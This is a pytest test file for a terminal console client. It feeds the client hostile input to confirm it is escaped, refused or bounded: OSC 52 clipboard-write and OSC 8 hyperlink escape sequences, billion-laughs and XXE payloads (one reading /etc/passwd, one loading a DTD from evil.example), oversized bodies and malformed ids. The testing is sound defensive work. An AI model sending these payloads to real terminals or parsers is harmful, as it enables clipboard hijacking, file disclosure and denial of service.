"""Hostile and bad input (issue 5): server text that would be markup or terminal control, XML
bombs, oversized bodies, malformed job ids typed by the user, corrupt local files, a small
terminal.

The server-text test runs the real ``bulktui`` console in a pseudo-terminal against an
emulator process on loopback and reads every byte the console wrote to the terminal: no escape
sequence from the data may be among them, and the data must still be readable, escaped.
"""

from __future__ import annotations

import asyncio
import base64
import fcntl
import json
import os
import re
import signal
import struct
import sys
import termios
import tracemalloc
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from bulktui.api import wire
from bulktui.api.client import BulkClient
from bulktui.api.connection import Connection
from bulktui.api.enums import ContentType, Operation
from bulktui.api.errors import ResponseFormatError
from bulktui.api.ids import checksum
from bulktui.api.lifecycle import JobKind
from bulktui.emulator import EmulatorServer, Engine
from bulktui.ui.app import ConsoleApp
from bulktui.ui.screens.confirm import AbortJobModal
from bulktui.ui.screens.job_id import JobIdModal
from tests.reliability.loopback import (
    EmulatorProcess,
    child_env,
    free_port,
    pty_available,
    scrub,
    spawn_in_pty,
)
from tests.ui.harness import build, screen_text, started, wait_until
from tests.ui.seeds import small_org

needs_pty = pytest.mark.skipif(not pty_available(), reason="no pseudo-terminals here")

# ------------------------------------------------------------------------------ server text

PAYLOAD = base64.b64encode(b"pwned-by-data").decode()  # what OSC 52 would put on a clipboard
OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"
HOSTILE_OBJECT = "Acct[bold]B[/bold]\x1b[31mEVILOBJ\u009b31m"  # markup, CSI, 8-bit CSI
HOSTILE_STATE = (
    "[link=http://evil.example]click[/link] "  # Rich markup for a hyperlink
    "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\ "  # a raw OSC 8 hyperlink
    f"{OSC52}\x1b[31mEVILMSG"  # a clipboard write, then red text
)
HOSTILE_EMAIL = f"\x1b[31mEVILMAIL{OSC52}[bold]x@y"  # echoed in the record's error message
# Byte sequences that must never reach the terminal: each one comes only from the data.
FORBIDDEN = (
    f"\x1b]52;c;{PAYLOAD}".encode(),
    b"\x1b[31mEVIL",
    b"\x1b[31mPASTED",
    b"\xc2\x9b31m",  # U+009B, the 8-bit CSI, in UTF-8
    b"\x1b]8;;http://evil.example",
)
# ...and what the user must read instead, escaped (as the terminal shows it).
VISIBLE = (
    "Acct[bold]B[/bold]\\x1b[31mEVILOBJ",  # table and detail
    "[link=http://evil.example]click[/link]",  # a batch's stateMessage
    f"\\x1b]52;c;{PAYLOAD}\\x07\\x1b[31mEVILMSG",
    "\\x1b[31mEVILMAIL\\x1b]52;c;",  # a failed record's error message
    "INVALID_EMAIL_ADDRESS",
)


def _iso(delta: timedelta) -> str:
    return (datetime.now(UTC) - delta).strftime("%Y-%m-%dT%H:%M:%S.000Z")


async def _load_with_a_hostile_error(url: str, session_id: str) -> str:
    """A JSON insert whose first row's Email is hostile: the emulator echoes it in the error
    (JSON carries ESC intact; XML could not)."""
    async with BulkClient(Connection(url, session_id)) as client:
        job = await client.create_job("Contact", Operation.INSERT, ContentType.JSON)
        rows = [{"LastName": "Doe", "Email": HOSTILE_EMAIL}, {"LastName": "Fine"}]
        await client.add_batch(job.id, json.dumps(rows).encode(), ContentType.JSON)
        await client.close_job(job.id)
        return job.id


@pytest.fixture
def hostile_emulator() -> Iterator[tuple[EmulatorProcess, str]]:
    emu = EmulatorProcess(free_port()).start()
    try:
        newest = asyncio.run(_load_with_a_hostile_error(emu.url, emu.ready["session_id"]))
        emu.control(
            "seed",
            {
                "jobs": [
                    {
                        "object": HOSTILE_OBJECT,
                        "contentType": "JSON",
                        "state": "Closed",
                        "createdDate": _iso(timedelta(minutes=5)),
                        "batches": [{"state": "Failed", "stateMessage": HOSTILE_STATE}],
                    }
                ]
            },
        )
        yield emu, newest
    finally:
        emu.kill()


def _resize(master: int, pid: int, cols: int, rows: int) -> None:
    fcntl.ioctl(master, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
    os.kill(pid, signal.SIGWINCH)


@needs_pty
def test_console_in_a_pty_never_lets_server_text_control_the_terminal(
    hostile_emulator: tuple[EmulatorProcess, str], isolated_home: Path
) -> None:
    emu, newest = hostile_emulator
    themes = isolated_home / ".config" / "bulktui" / "themes"
    themes.mkdir(parents=True)
    (themes / "broken.toml").write_text('name = "broken"\n[colors\nprimary = ')
    env = child_env(
        isolated_home,
        TERM="xterm-256color",
        BULKTUI_INSTANCE_URL=emu.url,
        BULKTUI_SESSION_ID=emu.ready["session_id"],
    )
    term = spawn_in_pty([sys.executable, "-m", "bulktui"], env, size=(120, 40))
    try:
        assert term.wait_for(lambda out: newest in scrub(out), timeout=30), scrub(
            bytes(term.output)
        )[-2000:]
        assert term.wait_for(lambda out: "Acct[bold]B" in scrub(out), timeout=15), scrub(
            bytes(term.output)
        )[-3000:]
        term.send("\r", 1.5)  # the newest job's detail, its batch list focused
        assert term.wait_for(lambda out: "batches (1)" in scrub(out), timeout=15), scrub(
            bytes(term.output)
        )[-3000:]
        term.send("\r", 1.5)  # the batch's failed records
        assert term.wait_for(lambda out: "EVILMAIL" in scrub(out), timeout=15)
        term.send("\x1b", 0.5)
        term.send("\x1b", 0.5)
        term.send("\x1b[B", 0.5)  # down to the job with the hostile object and stateMessage
        term.send("\r", 1.5)
        assert term.wait_for(lambda out: "EVILMSG" in scrub(out), timeout=15)
        term.send("\x1b", 0.5)
        # Too small, then big enough again: a readable notice, no crash.
        _resize(term.master, term.proc.pid, 60, 20)
        assert term.wait_for(lambda out: "terminal too small: 60x20" in scrub(out), timeout=10)
        _resize(term.master, term.proc.pid, 120, 40)
        term.pump(1.0)
        # A "job id" pasted (bracketed paste) into the palette, escape sequences and all.
        term.send("\x10", 1.0)  # ctrl+p
        term.send(f"\x1b[200~abort 750\x1b[31mPASTED{OSC52}\x1b[201~", 1.5)
        assert term.wait_for(lambda out: "PASTED" in scrub(out), timeout=10)
        term.send("\x1b", 0.5)
        term.send("\x1b", 0.5)
        term.send("q", 0.5)
    finally:
        code = term.close()
    out = bytes(term.output)
    text = scrub(out)
    assert code == 0, text[-2000:]
    assert "Traceback" not in text
    for raw in FORBIDDEN:
        assert raw not in out, f"{raw!r} reached the terminal"
    assert not re.search(rb"\x1b\]8;[^\x07\x1b]*evil", out), "a hyperlink from the data"
    for shown in VISIBLE:
        assert shown in text, f"{shown!r} is not visible"
    assert "theme file broken.toml skipped" in text  # the corrupt theme: a notice, no crash
    assert emu.ready["session_id"] not in text  # (test_secrets scans this output too)


async def test_markup_and_escapes_in_pilot_screens_stay_literal() -> None:
    """The same text in the headless console (no pty): the screen's characters, not its
    bytes. Object names in the table, the failure message in the status line."""
    h = build(
        lambda engine: [
            {
                "object": HOSTILE_OBJECT,
                "contentType": "JSON",
                "state": "Failed",
                "batches": [{"state": "Failed", "stateMessage": HOSTILE_STATE}],
            }
        ]
    )
    async with h.app.run_test(size=(160, 40)) as pilot:
        await started(pilot, h)
        text = screen_text(h.app)
        assert "Acct[bold]B[/bold]\\x1b[31mEVILO" in text
        assert "\x1b" not in text and "\x9b" not in text
        # A server error message on an action goes through the same filter.
        job_id = h.jobs[0]
        h.app.say(f"Could not abort job {job_id}: the server said {HOSTILE_STATE}", "error")
        await pilot.pause()
        assert "[link=http://evil.example]click[/link]" in screen_text(h.app)
        assert "\x1b" not in screen_text(h.app)


# ------------------------------------------------------------------------------ XML bombs

LAUGHS = (
    '<?xml version="1.0" encoding="{enc}"?>\n'
    "<!DOCTYPE lolz [\n"
    '<!ENTITY lol "lollollollollollollollollollol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
    f'<jobInfo xmlns="{wire.NAMESPACE}"><id>&lol9;</id></jobInfo>'
)
EXTERNAL = (
    '<?xml version="1.0" encoding="{enc}"?>\n'
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<jobInfo xmlns="{wire.NAMESPACE}"><id>&xxe;</id></jobInfo>'
)
PARAMETER = (
    '<?xml version="1.0" encoding="{enc}"?>\n'
    '<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>\n'
    f'<jobInfo xmlns="{wire.NAMESPACE}"><id>750</id></jobInfo>'
)
BOMBS = {
    "billion laughs": LAUGHS,
    "external entity": EXTERNAL,
    "parameter entity": PARAMETER,
}
ENCODINGS = {"UTF-8": "utf-8", "UTF-16": "utf-16"}  # UTF-16 hides "<!DOCTYPE" from a byte scan
JOB_ID = "750" + "5g" + "0000000001"
JOB_ID = JOB_ID + checksum(JOB_ID)


def _client(handler: httpx.MockTransport, **kw: object) -> BulkClient:
    return BulkClient(Connection("https://org.example.com", "00Dxx!token"), transport=handler, **kw)


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("bomb", BOMBS)
async def test_xml_with_entities_is_refused_with_bounded_memory(bomb: str, encoding: str) -> None:
    body = BOMBS[bomb].replace("{enc}", encoding).encode(ENCODINGS[encoding])
    transport = httpx.MockTransport(
        lambda request: httpx.Response(200, content=body, headers={"content-type": "text/xml"})
    )
    tracemalloc.start()
    try:
        async with _client(transport) as client:
            with pytest.raises(ResponseFormatError) as info:
                await client.get_job(JOB_ID, JobKind.V1)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert str(info.value) == "XML with a DTD or entity declaration is refused"
    assert peak < 2 * 1024 * 1024, f"{peak:,} bytes: the entities were expanded"


# ------------------------------------------------------------------------------ body cap


class _Endless(httpx.AsyncByteStream):
    """A response body of ``chunks`` chunks of 1 MiB, counting how many were asked for."""

    def __init__(self, chunks: int) -> None:
        self.chunks = chunks
        self.served = 0
        self.chunk = b" " * (1024 * 1024)  # one buffer, served again and again

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for _ in range(self.chunks):
            self.served += 1
            yield self.chunk


async def test_a_body_over_the_cap_is_refused_while_streaming() -> None:
    stream = _Endless(chunks=100)
    transport = httpx.MockTransport(
        lambda request: httpx.Response(
            200, stream=stream, headers={"content-type": "application/xml"}
        )
    )
    async with _client(transport, max_body_bytes=4 * 1024 * 1024) as client:
        with pytest.raises(ResponseFormatError, match="over the 4,194,304-byte cap"):
            await client.get_job(JOB_ID, JobKind.V1)
    assert stream.served <= 5  # it stopped reading, it did not take 100 MiB first


async def test_a_declared_length_over_the_default_64_mb_cap_is_refused_unread() -> None:
    stream = _Endless(chunks=65)
    transport = httpx.MockTransport(
        lambda request: httpx.Response(
            200,
            stream=stream,
            headers={"content-type": "application/xml", "content-length": str(65 * 1024**2)},
        )
    )
    async with _client(transport) as client:
        assert client._x.max_body_bytes == 64 * 1024 * 1024 == wire.MAX_BODY_BYTES
        with pytest.raises(ResponseFormatError, match="68,157,440 bytes is over the 67,108,864"):
            await client.get_job(JOB_ID, JobKind.V1)
    assert stream.served == 0


# ------------------------------------------------------------------------------ typed job ids

GOOD = JOB_ID
BAD_IDS = {
    "wrong length": "750XYZ",
    "wrong prefix": (lambda i: i + checksum(i))("001" + "5g" + "0000000001"),  # an Account id
    "bad checksum": GOOD[:15] + ("AAA" if GOOD[15:] != "AAA" else "BBB"),
    "escape sequence": "750\x1b[31m0000000",
}
REASONS = {
    "wrong length": "is not a Salesforce id",
    "wrong prefix": "is not a job id",
    "bad checksum": "has a bad checksum",
    "escape sequence": "is not a Salesforce id",
}


async def test_malformed_job_ids_in_the_palette_send_nothing() -> None:
    h = build(small_org)
    async with h.app.run_test(size=(120, 35)) as pilot:
        await started(pilot, h)
        for kind, bad in BAD_IDS.items():
            sent, stats = h.transport.requests, dict(h.engine.stats)
            await pilot.press("ctrl+p")
            await pilot.press(*f"abort {bad}".replace("\x1b", ""))  # keys cannot type ESC
            await pilot.pause(0.5)
            await pilot.press("enter")
            await pilot.pause(0.2)
            assert not isinstance(h.app.screen, AbortJobModal), kind
            message, severity = h.app.last_message or ("", "")
            assert REASONS[kind] in message and severity == "error", (kind, message)
            assert h.transport.requests == sent and dict(h.engine.stats) == stats, kind


@pytest.mark.parametrize("kind", BAD_IDS)
async def test_malformed_job_id_in_the_by_id_dialog_sends_nothing(kind: str) -> None:
    h = build(small_org)
    async with h.app.run_test(size=(120, 35)) as pilot:
        await started(pilot, h)
        sent, stats = h.transport.requests, dict(h.engine.stats)
        h.app.ask_job_id("abort")
        await wait_until(pilot, lambda: isinstance(h.app.screen, JobIdModal))
        modal = h.app.screen
        modal.query_one("#job-id").value = BAD_IDS[kind]  # type: ignore[attr-defined]
        await pilot.press("enter")
        await pilot.pause(0.2)
        assert h.app.screen is modal  # still asking
        reason = str(modal.query_one("#error").render())  # type: ignore[attr-defined]
        assert REASONS[kind] in reason and "\x1b" not in reason, reason
        assert h.transport.requests == sent and dict(h.engine.stats) == stats
        await pilot.press("escape")


@pytest.fixture
def loopback_org() -> Iterator[tuple[Engine, EmulatorServer]]:
    engine = Engine()
    server = EmulatorServer(engine).start()
    try:
        yield engine, server
    finally:
        server.stop()


def _run_main(*argv: str) -> tuple[int, str, str]:
    import contextlib
    import io

    from bulktui.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(list(argv))
        except SystemExit as exc:
            code = int(exc.code or 0)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("command", ["show", "close", "abort"])
@pytest.mark.parametrize("kind", BAD_IDS)
def test_malformed_job_id_on_the_command_line_sends_nothing(
    kind: str, command: str, loopback_org: tuple[Engine, EmulatorServer]
) -> None:
    engine, server = loopback_org
    before = dict(engine.stats)
    extra = ["--yes"] if command != "show" else []
    code, out, err = _run_main(
        command,
        BAD_IDS[kind],
        *extra,
        "--instance-url",
        server.url,
        "--session-id",
        engine.issue_session(),
    )
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1 and REASONS[kind] in err, err
    assert "\x1b" not in err
    assert dict(engine.stats) == before  # not one request


# ------------------------------------------------------------------------------ local files


def test_corrupt_config_file_is_one_line_naming_file_and_line(isolated_home: Path) -> None:
    config = isolated_home / ".config" / "bulktui" / "profiles.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[profiles.prod]\nmethod = "session"\ninstance_url = \n')
    for argv in (["jobs"], ["profiles"], []):  # [] is the console itself
        code, out, err = _run_main(*argv)
        assert code == 2, (argv, err)
        assert out == ""
        assert err.count("\n") == 1, err
        assert str(config) in err and "line 3" in err, err


async def test_corrupt_theme_is_skipped_with_a_notice(tmp_path: Path) -> None:
    (tmp_path / "broken.toml").write_text("name = [unterminated\n")
    (tmp_path / "empty.toml").write_bytes(b"\xff\xfe\x00garbage")
    h = build(small_org)
    app = ConsoleApp(h.backend, now=h.clock.now, theme_dirs=[tmp_path])
    async with app.run_test(size=(120, 35), notifications=True) as pilot:
        await wait_until(pilot, lambda: app.snapshot is not None)
        names = {path.name for path, _ in app.theme_failures}
        assert names == {"broken.toml", "empty.toml"}
        assert "skipped" in (app.last_message or ("", ""))[0]
        assert app.screen is app.main


@needs_pty
def test_too_small_terminal_at_start_in_a_pty(
    loopback_org: tuple[Engine, EmulatorServer], isolated_home: Path
) -> None:
    engine, server = loopback_org
    env = child_env(
        isolated_home,
        TERM="xterm-256color",
        BULKTUI_INSTANCE_URL=server.url,
        BULKTUI_SESSION_ID=engine.issue_session(),
    )
    term = spawn_in_pty([sys.executable, "-m", "bulktui"], env, size=(50, 12))
    try:
        assert term.wait_for(lambda out: "terminal too small: 50x12" in scrub(out), timeout=30)
        term.send("q", 0.5)
    finally:
        code = term.close()
    text = scrub(bytes(term.output))
    assert code == 0 and "Traceback" not in text
    assert "needs at least 80x24" in text
